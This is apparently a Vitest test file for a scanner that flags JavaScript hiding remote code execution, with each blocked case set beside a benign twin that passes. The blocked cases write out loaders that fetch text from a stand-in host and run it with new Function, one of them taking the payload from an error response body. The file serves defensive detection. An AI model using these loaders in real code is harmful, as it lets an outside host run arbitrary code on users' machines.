// Ways of JavaScript and TypeScript in which a value goes where it does harm, each beside an honest twin.
import { describe, expect, it } from 'vitest';
import { decision } from './support.ts';

type Case = readonly [how: string, path: string, text: string, expected: 'block' | 'review' | 'pass'];

describe('what makes functions of texts', () => {
  it.each<Case>([
    [
      'code behind the names of parameters, in a folder of bundles',
      'lib/k.js',
      `(async () => { const r = await fetch("https://c.example.invalid/m.js");\n  new Function("require", await r.text())(require); })();`,
      'block',
    ],
    [
      'parameters that hold code themselves',
      'lib/k.js',
      `fetch("https://c.example.invalid/m.js").then((r) => r.text()).then((t) => new Function(t, "return 1")());`,
      'block',
    ],
    [
      'the body of an error, by the constructor of a function',
      'lib/k.js',
      `const axios = require("axios");\naxios.get("https://c.example.invalid/").catch((e) => {\n  new Function.constructor("require", e.response.data.cookie)(require); });`,
      'block',
    ],
    [
      'a comment in place of the parameters',
      'k.js',
      `fetch("https://c.example.invalid/m.js").then((r) => r.text()).then((t) => Function("/**/", t)());`,
      'block',
    ],
    [
      'code of the file, and an answer that it is called with',
      'lib/k.js',
      `const sum = new Function("a", "b", "return a + b");\nfetch("https://example.com/n").then((r) => r.json()).then((n) => sum(n.a, n.b));`,
      'pass',
    ],
    [
      'the class of an object',
      'lib/k.js',
      `fetch("https://example.com/n").then((r) => r.json()).then((n) => new this.constructor(n));`,
      'pass',
    ],
  ])('%s', async (_, path, text, expected) => {
    expect(await decision(path, text)).toBe(expected);
  });
});
